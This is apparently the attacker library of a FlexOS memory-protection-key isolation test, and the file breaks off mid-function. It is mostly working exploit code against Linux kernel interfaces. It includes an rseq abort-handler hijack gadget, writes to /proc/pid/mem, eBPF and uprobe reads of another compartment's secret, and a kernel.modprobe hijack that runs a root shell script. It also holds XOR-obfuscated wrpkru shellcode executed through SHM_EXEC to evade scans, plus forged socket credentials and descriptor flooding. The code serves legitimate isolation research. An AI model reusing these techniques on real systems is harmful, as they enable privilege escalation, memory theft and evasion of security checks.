/*
 * The attacker of the system-call attack image (tests/mpk/syscalls.c): a
 * library in compartment 'evil' that runs code of its choosing and asks
 * the kernel, rather than the CPU, for the application's memory. It knows
 * nothing of compartments; its mode numbers are syscalls.c's.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <limits.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <asm/prctl.h>
#include <dlfcn.h>
#include <link.h>
#include <sys/socket.h>
#include <time.h>
#include <linux/bpf.h>
#include <linux/futex.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/rseq.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/uio.h>
#include <ucontext.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "sysattack.h"

/*
 * rseq: the gadget the kernel jumps to (rseq's abort_ip) when this thread is
 * preempted inside the critical section that 'evil' names in glibc's rseq
 * area (TLS, key 0) while it runs in 'app'. The kernel checks only that the
 * 4 bytes before abort_ip are the registered signature (glibc's RSEQ_SIG),
 * and sets the IP, keeping the interrupted PKRU: 'evil's code runs with
 * 'app's. It reads app's secret into a key-0 page, overwrites it, and goes
 * back to app_busy's caller (the gate) through the first code address on
 * app's stack above it. The page is at a fixed address (EVIL_RSEQ_PAGE).
 */
#define EVIL_RSEQ_PAGE 0x7e5e00000000UL
__asm__(".text\n"
	".p2align 4\n"
	".long 0x53053053\n" /* RSEQ_SIG */
	"evil_rseq_gadget:\n"
	"movabsq $0x7e5e00000000, %rdi\n"
	"movq 0(%rdi), %rdx\n" /* target: app's secret */
	"movq (%rdx), %rax\n"  /* read with app's PKRU */
	"movq %rax, 8(%rdi)\n"
	"movq $666, (%rdx)\n" /* and write it */
	"xorl %ecx, %ecx\n"
	"rdpkru\n"
	"movq %rax, 24(%rdi)\n"
	"movq $1, 16(%rdi)\n"
	"movq %rsp, %rsi\n"
	"1: movq (%rsi), %rax\n"
	"cmpq 32(%rdi), %rax\n"
	"jb 2f\n"
	"cmpq 40(%rdi), %rax\n"
	"jb 3f\n"
	"2: addq $8, %rsi\n"
	"jmp 1b\n"
	"3: leaq 8(%rsi), %rsp\n"
	"jmp *%rax\n");
extern char evil_rseq_gadget[];

/* Reads or writes the application's secret through a /proc mem file. */
static long through_proc(const char *path, uintptr_t target, long secret, int write)
{
	long v = 0;
	int fd = open(path, write ? O_RDWR : O_RDONLY);

	if (fd < 0)
		return 0;
	if (write) {
		long evil = 666;
		v = pwrite(fd, &evil, sizeof(evil), (off_t)target) == sizeof(evil);
	} else {
		v = pread(fd, &v, sizeof(v), (off_t)target) == sizeof(v) && v == secret;
	}
	close(fd);
	if (!v)
		errno = EIO;
	return v;
}

static void *nothing(void *arg)
{
	return arg;
}

/*
 * Files moved to another directory, as Redis's AOF rewrite does
 * (rename into appendonlydir/): the filter's Landlock domain must not
 * refuse it (EXDEV). Returns NULL, or the step that failed.
 */
static const char *files(void)
{
	char dir[64], a[80], b[80], c[80];
	const char *step = NULL;
	int fd;

	/* The VM's /tmp is root's alone: as another user, /dev/shm. */
	strcpy(dir, "/tmp/flexos-control-XXXXXX");
	if (!mkdtemp(dir)) {
		strcpy(dir, "/dev/shm/flexos-control-XXXXXX");
		if (!mkdtemp(dir))
			return "mkdtemp in /tmp and /dev/shm";
	}
	snprintf(a, sizeof(a), "%s/f", dir);
	snprintf(b, sizeof(b), "%s/sub", dir);
	snprintf(c, sizeof(c), "%s/sub/g", dir);
	if ((fd = open(a, O_CREAT | O_WRONLY | O_EXCL, 0600)) < 0 || write(fd, "x", 1) != 1 ||
	    close(fd))
		step = "create a file";
	else if (mkdir(b, 0700))
		step = "mkdir";
	else if (rename(a, c))
		step = "rename a file into a subdirectory";
	else if (link(c, a))
		step = "link a file into another directory";
	else if (rename(c, a))
		step = "rename a file into its parent directory";
	int err = errno;
	unlink(c);
	unlink(a);
	rmdir(b);
	rmdir(dir);
	errno = err;
	return step;
}

/*
 * What a library may still do with its own memory: every step must work.
 * Returns 1, or prints the step that failed and returns 0.
 */
static long control(void)
{
	long page = sysconf(_SC_PAGESIZE);
	char *p = mmap(NULL, 64 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char buf[256];
	const char *step = NULL;
	pthread_t t;
	int fd;
	void *q;

	if (p == MAP_FAILED)
		step = "mmap";
	else if (mprotect(p, page, PROT_NONE))
		step = "mprotect";
	else if (madvise(p + page, page, MADV_DONTNEED))
		step = "madvise";
	else if (mmap(p + 2 * page, page, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1,
		      0) == MAP_FAILED)
		step = "mmap MAP_FIXED";
	else if ((p = mremap(p + 3 * page, 61 * page, 128 * page, MREMAP_MAYMOVE)) == MAP_FAILED)
		step = "mremap";
	else if (munmap(p, 128 * page))
		step = "munmap";
	else if ((fd = open("/proc/self/maps", O_RDONLY)) < 0 || read(fd, buf, sizeof(buf)) <= 0)
		step = "open /proc/self/maps";
	else if (close(fd) || pthread_create(&t, NULL, nothing, NULL) || pthread_join(t, NULL))
		step = "pthread_create";
	else if (!(q = malloc(1 << 20)))
		step = "malloc";
	else if (sigaltstack(&(stack_t){.ss_sp = q, .ss_size = 8192}, NULL))
		step = "sigaltstack of 8 KiB (SIGSTKSZ)";
	else
		free(q);
	if (!step)
		step = files();
	if (step)
		printf("control: %s: %s\n", step, strerror(errno));
	return !step;
}

/*
 * Samples this thread's user stack (perf_event_open, the CPU clock, every
 * 100 us of user time) while it runs in 'app' (app_busy), then looks for
 * what app keeps on its stack there. The kernel copies the stack in its
 * timer interrupt, under the PKRU of whatever compartment the thread runs
 * in. 1 when the samples hold it; 0 with errno set when refused.
 */
static long perf_stack(long secret)
{
	long page = sysconf(_SC_PAGESIZE);
	struct perf_event_attr a = {
	    .size = sizeof(a),
	    .type = PERF_TYPE_SOFTWARE,
	    .config = PERF_COUNT_SW_CPU_CLOCK,
	    .sample_period = 100000,
	    .sample_type = PERF_SAMPLE_STACK_USER,
	    .sample_stack_user = 4096,
	    .disabled = 1,
	    .exclude_kernel = 1,
	    .exclude_hv = 1,
	};
	int fd = (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	if (fd < 0)
		return 0;
	size_t len = 65 * (size_t)page;
	unsigned char *ring = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (ring == MAP_FAILED || ioctl(fd, PERF_EVENT_IOC_ENABLE, 0))
		return 0;
	app_busy();
	ioctl(fd, PERF_EVENT_IOC_DISABLE, 0);
	/* Made only now, so that no sample of this compartment's own stack holds it. */
	long needle = app_stack_value(secret);
	long found = 0;
	for (size_t i = (size_t)page; i + sizeof(needle) <= len && !found; i++)
		found = !memcmp(ring + i, &needle, sizeof(needle));
	munmap(ring, len);
	close(fd);
	if (!found)
		errno = ENOENT;
	return found;
}

/* One eBPF instruction (linux/bpf.h has the encoding, not the kernel's macros). */
#define INSN(c, d, s, o, i) \
	((struct bpf_insn){.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i)})
#define LD_IMM64(d, s, v)                                                 \
	INSN(BPF_LD | BPF_DW | BPF_IMM, d, s, 0, (int32_t)(uint64_t)(v)), \
	    INSN(0, 0, 0, 0, (int32_t)((uint64_t)(v) >> 32))

static long bpf_call(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

/*
 * A BPF program on every system call's entry (the raw tracepoint
 * sys_enter) that reads the application's secret at target with
 * bpf_probe_read_user and keeps it in a map when the read succeeds: it
 * runs in the calling thread, under that thread's PKRU, so it succeeds
 * when 'app' makes a call (app_busy). 1 when the map then holds the
 * secret; 0 with errno set when refused.
 */
static long bpf_probe(uintptr_t target, long secret)
{
	union bpf_attr map = {
	    .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};
	int mfd = (int)bpf_call(BPF_MAP_CREATE, &map);
	if (mfd < 0)
		return 0;
	const struct bpf_insn prog[] = {
	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0), /* r1 = fp - 8: where to read to */
	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -8),
	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, 8), /* r2 = 8 bytes */
	    LD_IMM64(3, 0, target),                        /* r3 = the secret's address */
	    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
	    INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 9, 0),   /* refused (another PKRU): done */
	    INSN(BPF_ST | BPF_MEM | BPF_W, 10, 0, -16, 0), /* key 0 at fp - 16 */
	    LD_IMM64(1, BPF_PSEUDO_MAP_FD, mfd),
	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0),
	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -16),
	    INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 10, 0, 0),
	    INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, -8),
	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 4, 0, 0, BPF_ANY),
	    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_map_update_elem),
	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0),
	    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	static char log[16384];
	union bpf_attr load = {.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT,
			       .insn_cnt = sizeof(prog) / sizeof(prog[0]),
			       .insns = (uintptr_t)prog,
			       .license = (uintptr_t) "GPL",
			       .log_level = 1,
			       .log_size = sizeof(log),
			       .log_buf = (uintptr_t)log};
	int pfd = (int)bpf_call(BPF_PROG_LOAD, &load);
	if (pfd < 0) {
		int err = errno;
		printf("bpf: the program was refused: %s\n%s\n", strerror(err), log);
		errno = err;
		return 0;
	}
	union bpf_attr attach = {
	    .raw_tracepoint = {.name = (uintptr_t) "sys_enter", .prog_fd = (uint32_t)pfd}};
	int tfd = (int)bpf_call(BPF_RAW_TRACEPOINT_OPEN, &attach);
	if (tfd < 0)
		return 0;
	app_busy();
	close(tfd);
	uint32_t key = 0;
	long v = 0;
	union bpf_attr look = {
	    .map_fd = (uint32_t)mfd, .key = (uintptr_t)&key, .value = (uintptr_t)&v};
	long found = !bpf_call(BPF_MAP_LOOKUP_ELEM, &look) && v == secret;
	close(pfd);
	close(mfd);
	if (!found)
		errno = ENOENT;
	return found;
}

/* A system call made here only: syscall user dispatch's exempt region. */
__attribute__((noinline, aligned(64))) static long own_syscall(long n, long a, long b, long c,
							       long d, long e)
{
	long r;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	return r;
}

/*
 * Syscall user dispatch with its selector on a byte of app's that is 0
 * (the secret's fourth): at each of app's system calls (app_busy) the
 * kernel reads that byte under app's PKRU; 0 lets the call through, any
 * other value would end the process, a refused read too (SIGSEGV). 1 when
 * app's calls went through; 0 with errno set when refused.
 */
static long user_dispatch(uintptr_t target)
{
	long r = own_syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_ON,
			     (long)(uintptr_t)own_syscall, 64, (long)(target + 3));
	if (r < 0) {
		errno = (int)-r;
		return 0;
	}
	app_busy();
	own_syscall(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF, 0, 0, 0);
	return 1;
}

/* Writes s to path; 0, or -1 with errno set. */
static int put(const char *path, const char *s, int flags)
{
	int fd = open(path, O_WRONLY | flags);
	if (fd < 0)
		return -1;
	long r = write(fd, s, strlen(s));
	int err = errno;
	close(fd);
	errno = err;
	return r < 0 ? -1 : 0;
}

/*
 * The kernel's module helper (root): kernel.modprobe names a script of
 * evil's, and a socket of a family no module has loaded yet has the kernel
 * run it, as root, outside the image's filter and Landlock; it writes 666
 * into app's secret through /proc/<pid>/mem. The helper is put back.
 */
static long module_helper(uintptr_t target)
{
	const char *script = "/tmp/flexos-attack-helper", *knob = "/proc/sys/kernel/modprobe";
	char was[256] = "", s[512];
	int fd = open(knob, O_RDONLY);

	if (fd >= 0) {
		long n = read(fd, was, sizeof(was) - 1);
		was[n > 0 ? n : 0] = 0;
		close(fd);
	}
	snprintf(s, sizeof(s),
		 "#!/bin/sh\nprintf '\\232\\002\\000\\000\\000\\000\\000\\000' | "
		 "dd of=/proc/%d/mem bs=1 seek=%lu conv=notrunc 2>/dev/null\n",
		 (int)getpid(), (unsigned long)target);
	if (put(script, s, O_CREAT | O_TRUNC) || chmod(script, 0755))
		return 0;
	long r = 0;
	if (!put(knob, script, 0)) {
		static const int families[] = {5, 9, 21, 29, 30, 31, 35, 40, 41, 43, 45};
		for (size_t i = 0; i < sizeof(families) / sizeof(families[0]); i++) {
			int so = socket(families[i], SOCK_SEQPACKET, 0);
			if (so >= 0)
				close(so);
			nanosleep(&(struct timespec){0, 50000000}, NULL);
		}
		put(knob, was, 0);
		r = 1; /* app checks its secret */
	}
	int err = errno;
	unlink(script);
	errno = err;
	return r;
}

static int load_of(struct dl_phdr_info *info, size_t size, void *data)
{
	uintptr_t *io = data; /* [0] an address in, [1] its file offset out, [2] the file's name */

	(void)size;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *p = &info->dlpi_phdr[i];
		uintptr_t lo = info->dlpi_addr + p->p_vaddr;
		if (p->p_type == PT_LOAD && io[0] >= lo && io[0] < lo + p->p_memsz) {
			io[1] = io[0] - lo + p->p_offset;
			io[2] = (uintptr_t)info->dlpi_name;
			return 1;
		}
	}
	return 0;
}

/*
 * A uprobe defined through tracefs (root) on the C library's getppid,
 * which app_busy calls, fetching app's secret: the kernel fetches it in
 * the probed thread, under app's PKRU, into the trace. 1 when the trace
 * holds the secret; 0 with errno set when refused. The probe is removed.
 */
static long uprobe(uintptr_t target, long secret)
{
	const char *events = "/sys/kernel/tracing/uprobe_events",
		   *enable = "/sys/kernel/tracing/events/flexos_attack/leak/enable";
	uintptr_t io[3] = {(uintptr_t)dlsym(RTLD_DEFAULT, "getppid"), 0, 0};
	char def[512];

	if (!io[0] || !dl_iterate_phdr(load_of, io)) {
		errno = ENOENT;
		return 0;
	}
	snprintf(def, sizeof(def), "p:flexos_attack/leak %s:%#lx secret=@%#lx:u64\n",
		 (const char *)io[2], (unsigned long)io[1], (unsigned long)target);
	if (put(events, def, O_APPEND))
		return 0;
	put("/sys/kernel/tracing/trace", "", O_TRUNC);
	long found = 0;
	if (!put(enable, "1", 0)) {
		app_busy();
		put(enable, "0", 0);
		static char trace[1 << 20];
		char want[64];
		int fd = open("/sys/kernel/tracing/trace", O_RDONLY);
		long n = fd < 0 ? -1 : read(fd, trace, sizeof(trace) - 1);
		trace[n > 0 ? n : 0] = 0;
		if (fd >= 0)
			close(fd);
		snprintf(want, sizeof(want), "secret=%lu\n", (unsigned long)secret);
		found = strstr(trace, want) != NULL;
	}
	put(events, "-:flexos_attack/leak\n", O_APPEND);
	if (!found)
		errno = ENOENT;
	return found;
}

static int text_range(struct dl_phdr_info *info, size_t size, void *data)
{
	uintptr_t *r = data;

	(void)size;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
			r[0] = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			r[1] = r[0] + info->dlpi_phdr[i].p_memsz;
		}
	return 1; /* the image */
}

struct rseq_job {
	volatile uint64_t *page;
	struct rseq *area;
	struct rseq_cs *cs;
	volatile int stop;
};

/* Keeps the critical section named while the main thread is in app, and keeps a CPU busy. */
static void *rseq_helper(void *arg)
{
	struct rseq_job *j = arg;

	while (!j->stop)
		if (j->page[6] && !j->page[2])
			__atomic_store_n(&j->area->rseq_cs, (uint64_t)(uintptr_t)j->cs,
					 __ATOMIC_RELAXED);
	return NULL;
}

static void *spin(void *arg)
{
	struct rseq_job *j = arg;

	while (!j->stop)
		;
	return NULL;
}

/*
 * No system call the filter sees: 'evil' writes glibc's rseq area of its
 * thread (TLS, key 0) so that the kernel, when it preempts the thread in
 * app, moves it to evil_rseq_gadget with app's PKRU. 1 when the gadget
 * read app's secret; 0 with errno set otherwise.
 */
static long rseq_hijack(uintptr_t target, long secret, int own)
{
	if (!__rseq_size && !own) {
		errno = ENOSYS;
		return 0;
	}
	volatile uint64_t *page = mmap((void *)EVIL_RSEQ_PAGE, 4096, PROT_READ | PROT_WRITE,
				       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if ((uintptr_t)page != EVIL_RSEQ_PAGE) {
		errno = EADDRINUSE;
		return 0;
	}
	uintptr_t text[2] = {0, 0};
	dl_iterate_phdr(text_range, text);
	page[0] = target;
	page[4] = text[0];
	page[5] = text[1];
	struct rseq_cs *cs = (struct rseq_cs *)(page + 8);
	cs->version = 0;
	cs->flags = 0;
	/* Everything from the image's text up to the gadget: app's code is there. */
	cs->start_ip = text[0];
	cs->post_commit_offset = (uintptr_t)evil_rseq_gadget - text[0];
	cs->abort_ip = (uintptr_t)evil_rseq_gadget;
	static struct rseq_job j;
	j.page = page;
	j.area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
	if (own) {
		/* glibc's registration undone (if any), and one of evil's own, in a key-0 page. */
		if (__rseq_size)
			syscall(SYS_rseq, j.area, 32, RSEQ_FLAG_UNREGISTER, 0x53053053);
		j.area = (struct rseq *)(page + 64);
		if (syscall(SYS_rseq, j.area, 32, 0, 0x53053053))
			return 0;
	}
	j.cs = cs;
	pthread_t h, s;
	if (pthread_create(&h, NULL, rseq_helper, &j) || pthread_create(&s, NULL, spin, &j))
		return 0;
	for (int i = 0; i < 20 && !page[2]; i++) {
		page[6] = 1;
		app_busy();
		page[6] = 0;
	}
	j.stop = 1;
	pthread_join(h, NULL);
	pthread_join(s, NULL);
	j.area->rseq_cs = 0;
	unsigned pkru;
	__asm__ volatile("rdpkru" : "=a"(pkru) : "c"(0) : "rdx");
	printf("rseq: gadget ran: %d, read %#lx, PKRU there %#lx (evil's %#lx)\n", (int)page[2],
	       (unsigned long)page[1], (unsigned long)page[3], (unsigned long)pkru);
	if (page[2] && (long)page[1] == secret)
		return 1;
	errno = ENOENT;
	return 0;
}

/*
 * New code without mmap or mprotect: a SysV segment attached writable,
 * filled with a PKRU writer, and attached again with SHM_EXEC. The code
 * opens every key, reads and overwrites *target, and puts PKRU back.
 */
static long shm_exec(uintptr_t target, long secret)
{
	static volatile unsigned char mask = 0x55;
	static const unsigned char code[] = {
	    0x31 ^ 0x55, 0xc9 ^ 0x55,                           /* xor %ecx,%ecx */
	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xee ^ 0x55,              /* rdpkru */
	    0x41 ^ 0x55, 0x89 ^ 0x55, 0xc0 ^ 0x55,              /* mov %eax,%r8d */
	    0x31 ^ 0x55, 0xc0 ^ 0x55, 0x31 ^ 0x55, 0xd2 ^ 0x55, /* xor %eax,%eax; xor %edx,%edx */
	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xef ^ 0x55,              /* wrpkru: every key open */
	    0x48 ^ 0x55, 0x8b ^ 0x55, 0x37 ^ 0x55,              /* mov (%rdi),%rsi */
	    0x48 ^ 0x55, 0xc7 ^ 0x55, 0x07 ^ 0x55, 0x9a ^ 0x55, 0x02 ^ 0x55, 0x00 ^ 0x55,
	    0x00 ^ 0x55,                                                     /* movq $666,(%rdi) */
	    0x44 ^ 0x55, 0x89 ^ 0x55, 0xc0 ^ 0x55, 0x31 ^ 0x55, 0xd2 ^ 0x55, /* mov %r8d,%eax; xor
										%edx,%edx */
	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xef ^ 0x55,                           /* wrpkru: back */
	    0x48 ^ 0x55, 0x89 ^ 0x55, 0xf0 ^ 0x55, 0xc3 ^ 0x55, /* mov %rsi,%rax; ret */
	};
	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0700); /* x: SHM_EXEC wants it */
	if (id < 0)
		return 0;
	unsigned char *w = shmat(id, NULL, 0);
	if (w == (void *)-1)
		return 0;
	/* Stored xor 0x55, so that no scan of evil's code meets the writer's bytes. */
	for (size_t i = 0; i < sizeof(code); i++)
		w[i] = code[i] ^ mask;
	void *x = shmat(id, NULL, SHM_EXEC | SHM_RDONLY);
	shmctl(id, IPC_RMID, NULL);
	if (x == (void *)-1)
		return 0;
	long v = ((long (*)(uintptr_t))x)(target);
	printf("shmat-exec: code at %p (SHM_EXEC) read %#lx\n", x, (unsigned long)v);
	if (v != secret) {
		errno = ENOENT;
		return 0;
	}
	return 1;
}

/*
 * userfaultfd without its system call: /dev/userfaultfd (Linux 6.1, root
 * by its mode) makes one with an ioctl. Registered over a page of app's
 * that nothing has touched yet, UFFDIO_COPY fills it with evil's bytes:
 * the kernel writes it, whatever the PKRU. 1 when the copy went through;
 * 0 with errno set when refused.
 */
static long userfaultfd_dev(uintptr_t target, uintptr_t len)
{
	int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
	if (dev < 0)
		return 0;
	int fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
	close(dev);
	if (fd < 0)
		return 0;
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register reg = {.range = {target, len}, .mode = UFFDIO_REGISTER_MODE_MISSING};
	static long evil[512] __attribute__((aligned(4096)));
	evil[0] = 666;
	struct uffdio_copy copy = {.dst = target, .src = (uintptr_t)evil, .len = len};
	long r = !ioctl(fd, UFFDIO_API, &api) && !ioctl(fd, UFFDIO_REGISTER, &reg) &&
		 !ioctl(fd, UFFDIO_COPY, &copy);
	int err = errno;
	close(fd);
	errno = err;
	return r;
}

#ifndef PR_SET_MM_MAP
#define PR_SET_MM_MAP 14
#endif
struct mm_map_args {
	uint64_t start_code, end_code, start_data, end_data, start_brk, brk, start_stack;
	uint64_t arg_start, arg_end, env_start, env_end;
	uint64_t *auxv;
	uint32_t auxv_size, exe_fd;
};

/* The filter compares prctl's option as 64 bits; the kernel takes an int. */
static long set_environ_range(uintptr_t lo, uintptr_t hi, unsigned long high)
{
	unsigned long f[64] = {0};
	char buf[2048];
	int fd = open("/proc/self/stat", O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	char *p = strrchr(buf, ')') + 2;
	p += 2; /* the state letter and its space */
	for (int i = 4; i < 60 && *p; i++) {
		f[i] = strtoul(p, &p, 10);
		while (*p == ' ')
			p++;
	}
	struct mm_map_args m = {.start_code = f[26],
				.end_code = f[27],
				.start_data = f[45],
				.end_data = f[46],
				.start_brk = f[47],
				.brk = (uint64_t)syscall(SYS_brk, 0),
				.start_stack = f[28],
				.arg_start = f[48],
				.arg_end = f[49],
				.env_start = lo,
				.env_end = hi,
				.auxv = NULL,
				.auxv_size = 0,
				.exe_fd = (uint32_t)-1};
	fprintf(
	    stderr,
	    "code %#lx-%#lx data %#lx-%#lx brk %#lx-%#lx stack %#lx args %#lx-%#lx env %#lx-%#lx\n",
	    f[26], f[27], f[45], f[46], f[47], (unsigned long)m.brk, f[28], f[48], f[49], f[50],
	    f[51]);
	return syscall(SYS_prctl, high | PR_SET_MM, PR_SET_MM_MAP, &m, sizeof(m), 0);
}

static long read_through_environ(uintptr_t target, long secret, unsigned long high)
{
	long r = set_environ_range(target, target + sizeof(long), high);
	fprintf(stderr, "prctl(PR_SET_MM%s, PR_SET_MM_MAP) = %ld (%s)\n", high ? " | 1<<32" : "", r,
		r ? strerror(errno) : "ok");
	if (r)
		return 0;
	long v = 0;
	int fd = open("/proc/self/environ", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, &v, sizeof(v));
	fprintf(stderr, "/proc/self/environ: fd %d, read %zd, value %#lx (secret %#lx)\n", fd, n, v,
		secret);
	if (fd >= 0)
		close(fd);
	if (n != sizeof(v) || v != secret) {
		errno = EIO;
		return 0;
	}
	return 1;
}

/* Sends NAME to the helper's socket with NFDS reply sockets and, if pid, forged credentials. */
static int helper_ask(int sock, const char *name, pid_t pid, int nfds, int *err)
{
	int sv[2], extra[4];
	if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sv))
		return -1;
	for (int i = 1; i < nfds; i++)
		extra[i] = open("/dev/null", O_RDONLY);
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(struct ucred)) + CMSG_SPACE(4 * sizeof(int))];
	} u;
	memset(&u, 0, sizeof(u));
	struct iovec iov = {(void *)name, strlen(name)};
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf};
	struct cmsghdr *c = (struct cmsghdr *)u.buf;
	size_t len = 0;
	m.msg_controllen = sizeof(u.buf);
	if (pid) {
		struct ucred cr = {pid, getuid(), getgid()};
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_CREDENTIALS;
		c->cmsg_len = CMSG_LEN(sizeof(cr));
		memcpy(CMSG_DATA(c), &cr, sizeof(cr));
		len += CMSG_SPACE(sizeof(cr));
		c = (struct cmsghdr *)(u.buf + CMSG_SPACE(sizeof(cr)));
	}
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(nfds * sizeof(int));
	extra[0] = sv[1];
	memcpy(CMSG_DATA(c), extra, nfds * sizeof(int));
	len += CMSG_SPACE(nfds * sizeof(int));
	m.msg_controllen = len;
	int fd = -1;
	*err = -1;
	ssize_t s;
	while ((s = sendmsg(sock, &m, MSG_NOSIGNAL | MSG_DONTWAIT)) < 0 && errno == EAGAIN)
		usleep(1000);
	close(sv[1]);
	if (nfds > 1) {
		close(sv[0]);
		return -1;
	}
	for (int i = 1; i < nfds; i++)
		close(extra[i]);
	if (s >= 0) {
		union {
			struct cmsghdr h;
			char buf[CMSG_SPACE(sizeof(int))];
		} r;
		iov = (struct iovec){err, sizeof(*err)};
		m = (struct msghdr){.msg_iov = &iov,
				    .msg_iovlen = 1,
				    .msg_control = r.buf,
				    .msg_controllen = sizeof(r.buf)};
		struct timeval tv = {2, 0};
		setsockopt(sv[0], SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		if (recvmsg(sv[0], &m, 0) > 0 && (c = CMSG_FIRSTHDR(&m)) &&
		    c->cmsg_type == SCM_RIGHTS)
			memcpy(&fd, CMSG_DATA(c), sizeof(int));
	} else {
		*err = -errno;
	}
	close(sv[0]);
	return fd;
}

static int helper_socket(void)
{
	for (int fd = 0; fd < 256; fd++) {
		struct stat st;
		int type = 0;
		socklen_t len = sizeof(type);
		if (fstat(fd, &st) || !S_ISSOCK(st.st_mode) ||
		    getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) || type != SOCK_SEQPACKET)
			continue;
		return fd;
	}
	return -1;
}

static int count_fds(int dfd)
{
	char buf[4096];
	int n = 0;
	long k;
	lseek(dfd, 0, SEEK_SET);
	while ((k = syscall(SYS_getdents64, dfd, buf, sizeof(buf))) > 0)
		for (long o = 0; o < k;) {
			unsigned short rl;
			memcpy(&rl, buf + o + 16, 2);
			if (buf[o + 19] != '.')
				n++;
			o += rl;
		}
	return n;
}

/* Fd leak: two descriptors per request; the helper keeps both. */
static long helper_fd_flood(void)
{
	int s = helper_socket(), err = 0;
	fprintf(stderr, "helper socket %d, my pid %d\n", s, (int)getpid());
	if (s < 0)
		return 0;
	pid_t hp = getuid() == 0 ? getpid() + 2 : 0; /* the grandchild, cloned twice at start-up */
	int d = hp ? helper_ask(s, "fd", hp, 1, &err) : -1;
	fprintf(stderr, "helper (pid %d guessed) fd dir: %d (err %d): %d fds\n", hp, d, err,
		d >= 0 ? count_fds(d) : -1);
	for (int i = 0; i < 700; i++) {
		helper_ask(s, "status", 0, 2, &err);
	}
	if (d >= 0)
		fprintf(stderr, "after 700 two-descriptor requests the helper holds %d fds\n",
			count_fds(d));
	int f = helper_ask(s, "status", 0, 1, &err);
	fprintf(stderr, "a legitimate ask for status now: fd %d err %d (%s)\n", f, err,
		err > 0 ? strerror(err) : "-");
	if (d >= 0)
		close(d);
	if (f >= 0) {
		close(f);
		errno = EIO;
		return 0;
	}
	return 1;
}

/*
 * A zero-length message to the /proc helper (an attack review's): the
 * helper took its recvmsg's 0 for its peers gone and exited, and no child
 * of fork() could open its /proc/self files any more. 1 when a
 * legitimate ask fails after it.
 */
static long helper_empty(void)
{
	int s = helper_socket(), err = 0;

	if (s < 0)
		return 0;
	fprintf(stderr, "proc-helper-empty: a zero-length message: %zd\n", send(s, "", 0, 0));
	usleep(100000);
	int f = helper_ask(s, "status", 0, 1, &err);
	fprintf(stderr, "proc-helper-empty: a legitimate ask for status then: fd %d err %d (%s)\n",
		f, err, err > 0 ? strerror(err) : "-");
	if (f >= 0) {
		close(f);
		errno = EIO;
		return 0;
	}
	return 1;
}

static void *release_join(void *arg)
{
	volatile int *tidp = arg;
	usleep(300000);
	*tidp = 0;
